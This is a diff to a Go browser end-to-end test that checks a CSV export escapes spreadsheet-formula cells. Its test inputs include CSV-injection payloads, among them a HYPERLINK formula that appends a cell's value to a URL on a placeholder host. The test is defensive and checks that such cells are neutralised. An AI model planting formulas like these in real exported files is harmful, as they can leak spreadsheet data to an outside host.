@@ -552,6 +552,13 @@ func TestBrowserE2E(t *testing.T) {
 				t.Errorf("CSV line %d %q, want %s eligible", i+1, lines[i+1], id)
 			}
 		}
+		// A cell a spreadsheet would take for a formula stays text.
+		var cells []string
+		b.eval(`['=1+2', '+1', '-2', '@SUM(A1)', '\t=x', '=HYPERLINK("http://x/?a="&A1,"y")', '焊工', 'a=b', ''].map(window.craftledger.csvCell)`, &cells)
+		wantCells := []string{`'=1+2`, `'+1`, `'-2`, `'@SUM(A1)`, "'\t=x", `"'=HYPERLINK(""http://x/?a=""&A1,""y"")"`, `焊工`, `a=b`, ``}
+		if !slices.Equal(cells, wantCells) {
+			t.Errorf("CSV cells %q, want %q", cells, wantCells)
+		}
 		// A click on a row opens that craftsman's pathway.
 		if v := b.step(`document.querySelector('#hr-table tbody tr td').click()`); v != "worker" {
 			t.Fatalf("row click leads to %q", v)
